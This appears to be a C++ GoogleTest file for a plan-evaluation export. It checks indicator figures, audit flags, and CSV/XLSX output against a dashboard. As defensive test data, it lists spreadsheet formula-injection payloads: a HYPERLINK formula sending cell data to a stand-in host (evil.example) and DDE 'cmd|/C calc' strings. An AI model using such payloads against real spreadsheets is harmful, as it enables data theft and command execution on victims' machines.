// The evaluation dataset of a plan with a known history: every figure equals
// an independent computation here or the dashboard's, every cited position
// is the event behind the value, and the CSV and XLSX say the same.
#include "jobs/evaluation/evaluation.h"

#include <gtest/gtest.h>

#include <cmath>
#include <filesystem>
#include <fstream>
#include <regex>
#include <set>

#include "engine/log/payload.h"
#include "engine/plan/rollup.h"
#include "engine/util/csv.h"
#include "tests/engine/plan/plan_fixture.h"
#include "tests/process_util.h"

namespace jalon::jobs {
namespace {

class EvaluationTest : public testing::PlanFixture {
 protected:
  void SetUp() override {
    PlanFixture::SetUp();
    clock_.Set(ParseInstant("2018-07-02T08:00:00Z").value());
    ImportExample();
    // A known history on top of the sample plan.
    ASSERT_TRUE(Exec("ChangeTarget", {{"direction", "DEJ"},
                                      {"indicator", "I2"},
                                      {"target", {{"value", 55}, {"date", "2020-06-30"}}},
                                      {"reason", "cible revue à mi-parcours"}})
                    .ok());
    // Recorded on 2 July for 31 March: late (more than 30 days after).
    ASSERT_TRUE(
        Exec("RecordMeasurement",
             {{"direction", "DEJ"}, {"indicator", "I3"}, {"date", "2018-03-31"}, {"value", 2.5}})
            .ok());
    ASSERT_TRUE(Exec("RescheduleAction", {{"direction", "DEJ"},
                                          {"action", "A1.2"},
                                          {"due", "2019-09-30"},
                                          {"reason", "marché public infructueux"}})
                    .ok());
    const Json plan = testing::ExamplePlan();
    for (const Json& i : plan["indicators"]) source_[i["id"].get<std::string>()] = i;
  }

  Json Evaluate(const char* at) {
    auto r = EvaluationData(*service_, "DEJ", ParseDate(at).value(), ReminderOptions());
    EXPECT_TRUE(r.ok()) << r.status().ToString();
    return r.ok() ? *r : Json();
  }

  Event EventAt(uint64_t position) {
    auto events = log_->ReadRange(position, 1);
    EXPECT_TRUE(events.ok() && events->size() == 1);
    return events->front();
  }

  std::map<std::string, Json> source_;  // the sample plan's indicators, by id
};

TEST_F(EvaluationTest, IndicatorFiguresMatchAnIndependentComputation) {
  const Json d = Evaluate("2018-07-01");
  const Json dash = service_->Dashboard("DEJ", ParseDate("2018-07-01").value(), {}).value();
  EXPECT_EQ(d["execution"], dash["execution"]);
  EXPECT_EQ(d["performance"], dash["performance"]);
  ASSERT_EQ(d["indicators"].size(), source_.size());
  for (const Json& ind : d["indicators"]) {
    const std::string id = ind["id"];
    const Json& src = source_[id];
    // The latest measurement dated by 1 July 2018, from the file itself,
    // plus the late one recorded above for I3.
    Json latest;
    std::string latest_date;
    size_t count = 0;
    for (const Json& m : src["measurements"]) {
      if (m["date"].get<std::string>() > "2018-07-01") continue;
      ++count;
      if (m["date"].get<std::string>() > latest_date) {
        latest_date = m["date"];
        latest = m["value"];
      }
    }
    if (id == "I3" && latest_date < "2018-03-31") {
      latest_date = "2018-03-31";
      latest = 2.5;
    }
    if (id == "I3") ++count;
    EXPECT_EQ(ind["measurements"].size(), count) << id;
    EXPECT_EQ(ind["final_value"], latest) << id;
    EXPECT_EQ(ind["late_measurements"], id == "I3" ? 1 : 0) << id;
    EXPECT_EQ(ind["initial_target"], src["target"]) << id;
    // Attainment for an "increase" indicator: 100 x clamp((v - b) / (t - b)).
    if (src["polarity"] == "increase" && !latest.is_null()) {
      const double b = src["baseline"]["value"], t = ind["target"]["value"];
      const double expected =
          std::round(100 * std::clamp((latest.get<double>() - b) / (t - b), 0.0, 1.0) * 100) / 100;
      EXPECT_DOUBLE_EQ(ind["attainment"].get<double>(), expected) << id;
    }
    for (const Json& di : dash["indicators"]) {
      if (di["id"] == id) {
        EXPECT_EQ(ind["attainment"], di["attainment"]) << id;
      }
    }
    const double a = ind["attainment"].is_null() ? -1 : ind["attainment"].get<double>();
    const std::string expected_status = latest.is_null() ? "not_measured"
                                        : a >= 100       ? "achieved"
                                        : a <= 0         ? "missed"
                                                         : "partial";
    EXPECT_EQ(ind["status"], expected_status) << id;
    // The cited position is the measurement behind the final value.
    if (!latest.is_null()) {
      const Event e = EventAt(ind["provenance"]["final_value"].get<uint64_t>());
      const Json p = DecodePayload(e.payload).value();
      EXPECT_EQ(e.type, "MeasurementRecorded");
      EXPECT_EQ(p["indicator"], id);
      EXPECT_EQ(p["date"], latest_date);
    }
    EXPECT_EQ(EventAt(ind["provenance"]["defined"].get<uint64_t>()).type, "IndicatorDefined");
  }
}

TEST_F(EvaluationTest, LineageOfTargetsReschedulesAndActions) {
  // The changes were made on 2 July: the day before, the plan stood as it
  // was first adopted.
  const Json before = Evaluate("2018-07-01");
  for (const Json& i : before["indicators"]) {
    if (i["id"] == "I2") {
      EXPECT_EQ(i["target"], source_["I2"]["target"]);
    }
  }
  for (const Json& a : before["actions"]) {
    if (a["id"] == "A1.2") {
      EXPECT_EQ(a["due"], "2019-06-30");
    }
  }
  const Json d = Evaluate("2018-07-02");
  const Json* i2 = nullptr;
  for (const Json& i : d["indicators"]) {
    if (i["id"] == "I2") i2 = &i;
  }
  ASSERT_NE(i2, nullptr);
  ASSERT_EQ((*i2)["target_changes"].size(), 1u);
  const Json& change = (*i2)["target_changes"][0];
  EXPECT_EQ(change["from"], source_["I2"]["target"]);
  EXPECT_EQ(change["to"]["value"], 55);
  EXPECT_EQ(change["reason"], "cible revue à mi-parcours");
  EXPECT_EQ(change["by"], "test:user");
  EXPECT_EQ(EventAt(change["position"].get<uint64_t>()).type, "TargetChanged");
  EXPECT_EQ((*i2)["initial_target"], source_["I2"]["target"]);
  EXPECT_EQ((*i2)["target"]["value"], 55);

  for (const Json& a : d["actions"]) {
    if (a["id"] == "A1.2") {
      EXPECT_EQ(a["reschedules"], 1);
      EXPECT_EQ(a["reschedule_reasons"], "marché public infructueux");
      EXPECT_EQ(a["due"], "2019-09-30");
      EXPECT_NE(a["planned_due"], a["due"]);
      EXPECT_EQ(EventAt(a["provenance"]["reschedules"][0].get<uint64_t>()).type,
                "ActionRescheduled");
    }
    if (a["status"] == "done") {
      EXPECT_FALSE(a["completed_on"].is_null()) << a.dump();
      EXPECT_EQ(EventAt(a["provenance"]["completed"].get<uint64_t>()).type, "ActionCompleted");
    }
    EXPECT_EQ(EventAt(a["provenance"]["planned"].get<uint64_t>()).type, "ActionPlanned");
  }
  EXPECT_EQ(d["reviews"]["held"], 2);
  size_t events = 0;
  for (const Json& c : d["changes"]) events += c["count"].get<size_t>();
  EXPECT_EQ(events, d["position"].get<uint64_t>());  // DEJ is the only stream
}

// A minimal RFC 4180 reader for the test: rows of fields.
std::vector<std::vector<std::string>> ParseCsv(const std::string& text) {
  std::vector<std::vector<std::string>> rows(1, std::vector<std::string>(1));
  bool quoted = false;
  for (size_t i = 0; i < text.size(); ++i) {
    const char c = text[i];
    if (quoted) {
      if (c == '"' && i + 1 < text.size() && text[i + 1] == '"') {
        rows.back().back() += '"';
        ++i;
      } else if (c == '"') {
        quoted = false;
      } else {
        rows.back().back() += c;
      }
    } else if (c == '"') {
      quoted = true;
    } else if (c == ',') {
      rows.back().emplace_back();
    } else if (c == '\r' && i + 1 < text.size() && text[i + 1] == '\n') {
      ++i;
      rows.emplace_back(1);
    } else {
      rows.back().back() += c;
    }
  }
  if (rows.back().size() == 1 && rows.back()[0].empty()) rows.pop_back();
  return rows;
}

TEST_F(EvaluationTest, CsvAgreesWithTheJsonToTheLastDigit) {
  const Json d = Evaluate("2018-07-01");
  for (const Table& t : EvaluationTables(d)) {
    const auto rows = ParseCsv(ToCsv(t));
    ASSERT_EQ(rows.size(), t.rows.size() + 1) << t.name;
    ASSERT_EQ(rows[0].size(), t.columns.size()) << t.name;
    for (size_t r = 0; r < t.rows.size(); ++r) {
      for (size_t c = 0; c < t.columns.size(); ++c) {
        const Json& v = t.rows[r].value(t.columns[c].key, Json());
        const std::string expected =
            v.is_null() ? ""
            : v.is_string()
                ? (StartsLikeFormula(v.get<std::string>()) ? "'" : "") + v.get<std::string>()
            : v.is_boolean() ? (v.get<bool>() ? "true" : "false")
                             : v.dump();
        EXPECT_EQ(rows[r + 1][c], expected) << t.name << " " << t.columns[c].key;
      }
    }
  }
  // Staff read the spreadsheets: codes are written as the French labels.
  std::set<std::string> kinds, polarities, statuses;
  for (const Table& t : EvaluationTables(d)) {
    if (t.name != "indicateurs") continue;
    for (const Json& row : t.rows) {
      kinds.insert(row.value("kind", ""));
      polarities.insert(row.value("polarity", ""));
      statuses.insert(row.value("status", ""));
    }
  }
  EXPECT_TRUE(kinds.contains("Réalisation")) << Json(kinds).dump();
  EXPECT_FALSE(kinds.contains("output"));
  EXPECT_TRUE(polarities.contains("À la hausse")) << Json(polarities).dump();
  EXPECT_FALSE(statuses.contains("achieved") || statuses.contains("partial"));
  // A text with a comma, a quote and a line break survives the quoting.
  Table odd{"t", {{"x", "X", Column::Type::kText}}, {Json{{"x", "a, \"b\"\r\nc"}}}};
  EXPECT_EQ(ParseCsv(ToCsv(odd))[1][0], "a, \"b\"\r\nc");
}

TEST_F(EvaluationTest, XlsxReadsBackWithTypedCellsAndFrozenHeaders) {
  const Json d = Evaluate("2018-07-01");
  const std::vector<Table> tables = EvaluationTables(d);
  const std::string path = dir_.Sub("evaluation.xlsx");
  ASSERT_TRUE(WriteXlsx(tables, path).ok());
  auto run = testing::RunToEnd({"/usr/bin/python3", JALON_READ_XLSX, path});
  ASSERT_EQ(run.code, 0) << run.output;
  const Json book = Json::parse(run.output);
  ASSERT_EQ(book["sheets"].size(), tables.size());
  for (const Table& t : tables) {
    const Json& sheet = book["sheets"][t.name];
    EXPECT_TRUE(sheet["frozen"].get<bool>()) << t.name;
    ASSERT_EQ(sheet["rows"].size(), t.rows.size() + 1) << t.name;
    EXPECT_EQ(sheet["rows"][0][0], t.columns[0].title);
  }
  const Json& ind = book["sheets"]["indicateurs"];
  EXPECT_EQ(ind["rows"][0][16], "Atteinte");
  for (size_t r = 0; r < d["indicators"].size(); ++r) {
    const Json& a = d["indicators"][r]["attainment"];
    if (a.is_null()) continue;
    EXPECT_NEAR(ind["rows"][r + 1][16].get<double>() * 100, a.get<double>(), 1e-9);
    EXPECT_EQ(ind["formats"][r + 1][16], "0.00%");
    EXPECT_EQ(ind["formats"][r + 1][7], "dd/mm/yyyy");  // the baseline date
  }
}

// The yes/no columns (an axis validated or dropped, a measurement entered
// late) read « oui » and « non » in the CSV as in the XLSX, never true/false.
TEST_F(EvaluationTest, CsvWritesYesAndNoInWordsAsTheXlsxDoes) {
  const std::vector<Table> tables = EvaluationTables(Evaluate("2018-07-01"));
  const std::string path = dir_.Sub("evaluation.xlsx");
  ASSERT_TRUE(WriteXlsx(tables, path).ok());
  auto run = testing::RunToEnd({"/usr/bin/python3", JALON_READ_XLSX, path});
  ASSERT_EQ(run.code, 0) << run.output;
  const Json book = Json::parse(run.output);
  std::set<std::string> seen;
  size_t checked = 0;
  for (const Table& t : tables) {
    const auto rows = ParseCsv(ToCsv(t));
    for (const auto& row : rows) {
      for (const std::string& cell : row) EXPECT_TRUE(cell != "true" && cell != "false") << t.name;
    }
    for (size_t c = 0; c < t.columns.size(); ++c) {
      if (t.columns[c].labels != "yes_no") continue;
      for (size_t r = 1; r < rows.size(); ++r) {
        EXPECT_TRUE(rows[r][c] == "oui" || rows[r][c] == "non") << t.name << " " << rows[r][c];
        EXPECT_EQ(book["sheets"][t.name]["rows"][r][c], rows[r][c]) << t.name;
        seen.insert(t.columns[c].key + "=" + rows[r][c]);
        ++checked;
      }
    }
  }
  EXPECT_GT(checked, 0u);
  // The history has a late measurement and a validated axis.
  EXPECT_TRUE(seen.contains("late=oui") && seen.contains("late=non")) << Json(seen).dump();
  EXPECT_TRUE(seen.contains("validated=oui")) << Json(seen).dump();
}

// Every text that a spreadsheet would read as a formula (OWASP's leading
// = + - @ tab CR, and their full-width forms) comes out of the CSV with a
// leading single quote, quoted; out of the XLSX as a string cell holding
// the raw text, never a formula. Numbers stay numbers, negative ones too.
const std::vector<std::string> kFormulaLike = {
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Cliquez\")",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "-3.5",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1;=2",
    "\xEF\xBC\x9D"
    "1+1",  // full-width =
    "\xEF\xBC\x8B"
    "1",  // full-width +
    "\xEF\xBC\x8D"
    "1",  // full-width -
    "\xEF\xBC\xA0"
    "SUM(1)",  // full-width @
};

TEST_F(EvaluationTest, CsvNeutralisesEveryFormulaLikeText) {
  for (const char lead : {'=', '+', '-', '@', '\t', '\r'}) {
    const std::string text = std::string(1, lead) + "1+1";
    EXPECT_TRUE(StartsLikeFormula(text)) << int(lead);
    EXPECT_EQ(CsvTextCell(text), "\"'" + text + "\"") << int(lead);
  }
  for (const char* safe : {"Titre", "a=b", "1-2", " =1", "", "'=1"}) {
    EXPECT_FALSE(StartsLikeFormula(safe)) << safe;
  }
  EXPECT_EQ(CsvTextCell("a;b"), "\"a;b\"");
  Table t{"t", {{"x", "X", Column::Type::kText}, {"n", "N", Column::Type::kNumber}}, {}};
  for (const std::string& text : kFormulaLike) t.rows.push_back({{"x", text}, {"n", -3.5}});
  t.rows.push_back({{"x", "Titre ordinaire"}, {"n", -1}});
  const std::string csv = ToCsv(t);
  const auto rows = ParseCsv(csv);
  ASSERT_EQ(rows.size(), t.rows.size() + 1);
  for (size_t r = 0; r < kFormulaLike.size(); ++r) {
    EXPECT_EQ(rows[r + 1][0], "'" + kFormulaLike[r]) << r;
    EXPECT_EQ(rows[r + 1][1], "-3.5") << r;  // a number, written as one
  }
  EXPECT_EQ(rows.back()[0], "Titre ordinaire");
  EXPECT_EQ(rows.back()[1], "-1");
  // No field of the file starts like a formula, quoted or not.
  for (const auto& row : rows) {
    EXPECT_FALSE(StartsLikeFormula(row[0])) << row[0];
  }
  EXPECT_NE(csv.find("\r\n\"'=cmd|' /C calc'!A0\",-3.5\r\n"), std::string::npos) << csv;
}

TEST_F(EvaluationTest, XlsxWritesFormulaLikeTextAsPlainStrings) {
  Table t{"t", {{"x", "X", Column::Type::kText}, {"n", "N", Column::Type::kNumber}}, {}};
  for (const std::string& text : kFormulaLike) t.rows.push_back({{"x", text}, {"n", -3.5}});
  const std::string path = dir_.Sub("formulas.xlsx");
  ASSERT_TRUE(WriteXlsx({t}, path).ok());
  auto run = testing::RunToEnd({"/usr/bin/python3", JALON_READ_XLSX, path});
  ASSERT_EQ(run.code, 0) << run.output;
  const Json sheet = Json::parse(run.output)["sheets"]["t"];
  ASSERT_EQ(sheet["rows"].size(), kFormulaLike.size() + 1);
  for (size_t r = 0; r < kFormulaLike.size(); ++r) {
    EXPECT_EQ(sheet["kinds"][r + 1][0], "s") << kFormulaLike[r];
    EXPECT_EQ(sheet["rows"][r + 1][0], kFormulaLike[r]);
    EXPECT_EQ(sheet["kinds"][r + 1][1], "n");
    EXPECT_EQ(sheet["rows"][r + 1][1], -3.5);
  }
}

// End to end: an action titled like a formula, through the evaluation's
// actions table.
TEST_F(EvaluationTest, FormulaLikeTitleIsNeutralisedInTheEvaluationCsv) {
  const std::string title = "=HYPERLINK(\"http://evil.example\",\"Voir\")";
  ASSERT_TRUE(
      Exec("EditAction", {{"direction", "DEJ"}, {"action", "A1.2"}, {"title", title}}).ok());
  for (const Table& t : EvaluationTables(Evaluate("2018-07-01"))) {
    if (t.name != "actions") continue;
    const std::string csv = ToCsv(t);
    EXPECT_EQ(csv.find(",=HYPERLINK"), std::string::npos);
    EXPECT_EQ(csv.find("\"=HYPERLINK"), std::string::npos);
    EXPECT_NE(csv.find("\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"Voir\"\")\""),
              std::string::npos)
        << csv;
    return;
  }
  FAIL() << "no actions table";
}

// Each audit rule on a known history, citing the events behind it; and the
// rules that do not apply stay silent.
TEST_F(EvaluationTest, AuditFlagsCiteTheirEvents) {
  // I2 (decrease) worsens from 9 to 11, and its target is relaxed a week later.
  clock_.Set(ParseInstant("2018-07-10T08:00:00Z").value());
  ASSERT_TRUE(
      Exec("RecordMeasurement",
           {{"direction", "DEJ"}, {"indicator", "I2"}, {"date", "2018-06-30"}, {"value", 11}})
          .ok());
  clock_.Advance(std::chrono::days(7));
  ASSERT_TRUE(Exec("ChangeTarget", {{"direction", "DEJ"},
                                    {"indicator", "I2"},
                                    {"target", {{"value", 9.5}, {"date", "2020-06-30"}}},
                                    {"reason", "objectif jugé inatteignable"}})
                  .ok());
  // A measurement of January recorded in July (more than 90 days later).
  ASSERT_TRUE(
      Exec("RecordMeasurement",
           {{"direction", "DEJ"}, {"indicator", "I1"}, {"date", "2018-01-31"}, {"value", 25}})
          .ok());
  ASSERT_TRUE(Exec("ProposeAxis", {{"direction", "DEJ"},
                                   {"id", "A3"},
                                   {"title", "Axe proposé, non validé"},
                                   {"missions", {"M1"}}})
                  .ok());
  auto audit = AuditFlags(*service_, "DEJ");
  ASSERT_TRUE(audit.ok()) << audit.status().ToString();
  std::map<std::string, std::vector<Json>> by_rule;
  for (const Json& f : (*audit)["flags"]) by_rule[f["rule"]].push_back(f);
  auto types = [this](const Json& flag) {
    std::vector<std::string> out;
    for (const Json& p : flag["events"]) out.push_back(EventAt(p.get<uint64_t>()).type);
    return out;
  };
  // SetUp's change to I2 followed favourable measurements: not flagged.
  ASSERT_EQ(by_rule["target_changed_after_unfavourable_measurement"].size(), 1u) << audit->dump(2);
  const Json& relaxed = by_rule["target_changed_after_unfavourable_measurement"].back();
  EXPECT_EQ(relaxed["subject"], "indicator/I2");
  EXPECT_EQ(types(relaxed), (std::vector<std::string>{"MeasurementRecorded", "MeasurementRecorded",
                                                      "TargetChanged"}));
  // SetUp's I3 measurement (93 days late) and this I1 one (160 days).
  ASSERT_EQ(by_rule["measurement_recorded_late"].size(), 2u) << audit->dump(2);
  std::set<std::string> late;
  for (const Json& f : by_rule["measurement_recorded_late"]) late.insert(f["subject"]);
  EXPECT_EQ(late, (std::set<std::string>{"indicator/I1", "indicator/I3"}));
  ASSERT_EQ(by_rule["axis_never_validated"].size(), 1u);
  EXPECT_EQ(by_rule["axis_never_validated"][0]["subject"], "axis/A3");
  EXPECT_EQ(types(by_rule["axis_never_validated"][0]), std::vector<std::string>{"AxisProposed"});
  ASSERT_EQ(by_rule["indicator_never_measured"].size(), 0u);  // I3 got its late measurement
  for (const Json& f : by_rule["action_without_indicator"])
    EXPECT_EQ(types(f), std::vector<std::string>{"ActionPlanned"});
  EXPECT_TRUE(by_rule["mission_never_assessed"].empty());  // the sample assesses its missions
  // Staff read the messages, in the API and the web as in the CLI: dates in
  // words; the late measurement's date stays ISO in its own field.
  const std::regex iso(R"(\d{4}-\d{2}-\d{2})");
  for (const Json& f : (*audit)["flags"]) {
    EXPECT_FALSE(std::regex_search(f["message"].get<std::string>(), iso)) << f.dump();
  }
  std::set<std::string> late_messages, late_dates;
  for (const Json& f : by_rule["measurement_recorded_late"]) {
    late_messages.insert(f["message"].get<std::string>());
    late_dates.insert(f.value("date", ""));
  }
  EXPECT_TRUE(late_messages.contains(
      "mesure du 31 janvier 2018 de l'indicateur I1 saisie 167 jours après sa date"))
      << Json(late_messages).dump();
  EXPECT_EQ(late_dates, (std::set<std::string>{"2018-01-31", "2018-03-31"}));
}

// For every axis of the demo city, explain gives the dashboard's numbers, its
// inputs and weights give them back, and each cited event is the right one.
TEST(ExplainTest, EveryAxisOfTheDemoCityMatchesTheDashboard) {
  testing::TempDir dir;
  // After the demo city's last measurement (2019-12-31): an import comes
  // after the history it holds.
  SimulatedClock clock(ParseInstant("2020-01-15T08:00:00Z").value());
  auto log = testing::OpenLogOrDie(dir.path(), clock);
  Projections projections(*log);
  ASSERT_TRUE(projections.Start().ok());
  PlanService service(*log, projections, clock);
  std::vector<std::string> codes;
  for (const auto& f : std::filesystem::directory_iterator(JALON_DEMO_DIR)) {
    std::ifstream in(f.path());
    auto r = service.Import(Json::parse(in), "test");
    ASSERT_TRUE(r.ok()) << r.status().ToString();
    codes.push_back((*r)["direction"]);
  }
  ASSERT_GE(codes.size(), 5u);
  const Instant at = ParseDate("2018-12-31").value();
  size_t axes = 0;
  for (const std::string& code : codes) {
    const Json dash = service.Dashboard(code, at, {}).value();
    for (const Json& axis : dash["axes"]) {
      ++axes;
      const std::string figure = "axis/" + axis["id"].get<std::string>();
      auto e = ExplainFigure(service, code, figure, at, ReminderOptions());
      ASSERT_TRUE(e.ok()) << e.status().ToString();
      EXPECT_EQ((*e)["execution"]["value"], axis["execution"]) << code << " " << figure;
      EXPECT_EQ((*e)["performance"]["value"], axis["performance"]) << code << " " << figure;
      // The weighted inputs give the figure back.
      double execution = 0, weights = 0;
      for (const Json& in : (*e)["execution"]["inputs"]) {
        execution += in["weight"].get<double>() * in["progress"].get<double>();
        weights += in["weight"].get<double>();
        const Event planned =
            log->ReadRange(in["events"]["planned"].get<uint64_t>(), 1).value().front();
        EXPECT_EQ(planned.type, "ActionPlanned");
        EXPECT_EQ(DecodePayload(planned.payload).value()["id"], in["action"]);
        if (!in["events"]["progress"].is_null() && in["progress"] != 100.0) {
          const Event report =
              log->ReadRange(in["events"]["progress"].get<uint64_t>(), 1).value().front();
          EXPECT_EQ(report.type, "ProgressReported");
          EXPECT_EQ(DecodePayload(report.payload).value()["percent"], in["progress"]);
        }
      }
      if (!axis["execution"].is_null()) {
        EXPECT_NEAR(weights, 1.0, 1e-9);
        EXPECT_NEAR(execution, axis["execution"].get<double>(), 0.01) << code << " " << figure;
      }
      double performance = 0;
      for (const Json& in : (*e)["performance"]["inputs"]) {
        performance += in["weight"].get<double>() * in["attainment"].get<double>();
        const Event m = log->ReadRange(in["events"]["latest"].get<uint64_t>(), 1).value().front();
        EXPECT_EQ(m.type, "MeasurementRecorded");
        EXPECT_EQ(DecodePayload(m.payload).value()["date"], in["latest_date"]);
      }
      if (!axis["performance"].is_null()) {
        EXPECT_NEAR(performance, axis["performance"].get<double>(), 0.01) << code << " " << figure;
      }
    }
  }
  EXPECT_GE(axes, 15u);
  auto bad = ExplainFigure(service, codes[0], "axe/A1", at, ReminderOptions());
  EXPECT_EQ(bad.status().message(), "figure: expected axis/<ID>, e.g. axis/A1");
  auto missing = ExplainFigure(service, codes[0], "axis/Z9", at, ReminderOptions());
  EXPECT_TRUE(missing.status().IsNotFound());
}

// The evaluation at a date is the dashboard's reading of the plan as it
// stood then: backdated changes count from their date in both.
TEST_F(EvaluationTest, AtEveryDateTheEvaluationGivesTheDashboardsFigures) {
  ASSERT_TRUE(Exec("ChangeTarget", {{"direction", "DEJ"},
                                    {"indicator", "I1"},
                                    {"target", {{"value", 30}, {"date", "2019-12-31"}}},
                                    {"reason", "révision"},
                                    {"date", "2017-09-01"}})
                  .ok());
  ASSERT_TRUE(
      Exec("DropAxis", {{"direction", "DEJ"}, {"axis", "A2"}, {"date", "2018-01-01"}}).ok());
  for (const char* date : {"2017-06-30", "2017-12-31", "2018-03-31", "2018-07-01"}) {
    const Json e = Evaluate(date);
    const Json d = service_->Dashboard("DEJ", ParseDate(date).value(), {}).value();
    EXPECT_EQ(e["execution"], d["execution"]) << date;
    EXPECT_EQ(e["performance"], d["performance"]) << date;
    for (const Json& i : e["indicators"]) {
      if (i["id"] == "I1") {
        EXPECT_EQ(i["target"]["value"], std::string(date) < "2017-09-01" ? 60 : 30) << date;
      }
    }
  }
}

// Once the next cycle is open, the evaluation of the cycle before is the
// one it gave before, and the current cycle's starts empty.
TEST_F(EvaluationTest, ThePreviousCycleKeepsItsEvaluation) {
  clock_.Set(ParseInstant("2021-01-04T08:00:00Z").value());
  auto before = EvaluationData(*service_, "DEJ", std::nullopt, ReminderOptions());
  ASSERT_TRUE(before.ok()) << before.status().ToString();
  ASSERT_FALSE((*before)["indicators"].empty());
  ASSERT_TRUE(Exec("OpenCycle", testing::ExampleNextCycle("2021-01-04")).ok());
  auto first = EvaluationData(*service_, "DEJ", std::nullopt, ReminderOptions(), 1);
  ASSERT_TRUE(first.ok()) << first.status().ToString();
  EXPECT_EQ(*first, *before);
  auto current = EvaluationData(*service_, "DEJ", std::nullopt, ReminderOptions());
  ASSERT_TRUE(current.ok()) << current.status().ToString();
  EXPECT_EQ((*current)["cycle"], 2);
  EXPECT_EQ((*current)["period_start"], "2021-01-01");
  EXPECT_TRUE((*current)["indicators"].empty());
  // Its changes start with its own opening.
  EXPECT_EQ((*current)["changes"],
            Json::parse(R"([{"count":1,"type":"CycleOpened","year":2021}])"));
  auto third = EvaluationData(*service_, "DEJ", std::nullopt, ReminderOptions(), 3);
  ASSERT_FALSE(third.ok());
  EXPECT_EQ(third.status().code(), Status::Code::kNotFound);
}

}  // namespace
}  // namespace jalon::jobs
